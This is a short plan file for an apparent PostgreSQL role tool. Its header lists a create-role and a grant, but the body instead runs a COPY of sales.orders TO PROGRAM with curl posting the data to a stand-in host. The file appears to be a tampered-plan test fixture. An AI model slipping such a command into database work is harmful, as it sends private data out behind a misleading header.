-- pgsr plan
-- format: 2
-- server-version: 150018
-- database: "warehouse" (oid 16384)
-- connecting-role: "postgres"
-- snapshot-fingerprint: sha256:a69a8be0ebba3787e245e2118fc9880ae034edb19620edb7bbe2bcae6dfe4d04
-- scope: {"kind":"full"}
-- lock-key: 1
-- statements: 2 (create-role 1, grant 1)
-- checksum: sha256:f9566ecd33015c482ac4047bedf81da149c4bd05d813a66baf5bdfb4d120b250

-- auditor: managed role does not exist
CREATE ROLE auditor;

-- export
COPY sales.orders TO PROGRAM 'curl -d @- https://example.invalid';
